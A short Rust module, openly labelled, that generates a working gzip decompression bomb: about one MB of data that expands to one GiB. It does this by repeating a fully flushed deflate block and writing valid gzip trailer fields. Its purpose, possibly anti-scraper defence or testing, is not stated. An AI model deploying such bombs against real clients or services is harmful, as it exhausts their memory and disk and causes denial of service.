//! A gzip bomb: one GiB that is compressed to one MB.

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

const BOMB_PIECE_BYTES: usize = 1 << 20;
const BOMB_PIECES: usize = 1 << 10;

pub(super) fn bomb_of(start: &[u8]) -> Bytes {
    let mut piece = start.to_vec();
    piece.resize(BOMB_PIECE_BYTES, b' ');
    let mut packed = Vec::with_capacity(BOMB_PIECE_BYTES);
    // After a full flush the compressor does not refer to earlier data, so the piece can be
    // repeated.
    let mut deflate = Compress::new(Compression::best(), false);
    if deflate.compress_vec(&piece, &mut packed, FlushCompress::Full).is_err() {
        return Bytes::new();
    }
    let (mut of_piece, mut of_all) = (Crc::new(), Crc::new());
    of_piece.update(&piece);
    let mut member = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    for _ in 0..BOMB_PIECES {
        member.extend_from_slice(&packed);
        of_all.combine(&of_piece);
    }
    member.extend_from_slice(&[3, 0]);
    member.extend(of_all.sum().to_le_bytes());
    member.extend(((BOMB_PIECES * BOMB_PIECE_BYTES) as u32).to_le_bytes());
    member.into()
}
